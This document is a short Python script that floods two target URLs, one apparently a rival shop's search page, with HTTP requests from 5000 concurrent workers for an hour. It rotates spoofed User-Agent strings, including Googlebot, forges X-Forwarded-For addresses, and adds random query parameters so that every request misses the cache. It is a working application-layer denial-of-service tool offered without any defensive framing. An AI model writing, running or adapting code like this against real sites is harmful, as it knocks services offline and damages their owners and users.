import asyncio
import random
import string

import aiohttp

TARGETS = ["http://203.0.113.5/", "https://shop.rival.example/search"]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0)", "curl/8.1", "Googlebot/2.1"]


def rnd(n=8):
    return "".join(random.choices(string.ascii_lowercase, k=n))


async def hit(session, stop):
    while not stop.is_set():
        headers = {
            "User-Agent": random.choice(AGENTS),
            "X-Forwarded-For": ".".join(str(random.randint(1, 254)) for _ in range(4)),
            "Cache-Control": "no-store",
        }
        try:
            async with session.get(random.choice(TARGETS), params={rnd(): rnd(64)}, headers=headers):
                pass
        except aiohttp.ClientError:
            continue


async def main(workers=5000, seconds=3600):
    stop = asyncio.Event()
    conn = aiohttp.TCPConnector(limit=0, ssl=False)
    async with aiohttp.ClientSession(connector=conn) as s:
        tasks = [asyncio.create_task(hit(s, stop)) for _ in range(workers)]
        await asyncio.sleep(seconds)
        stop.set()
        await asyncio.gather(*tasks, return_exceptions=True)


asyncio.run(main())
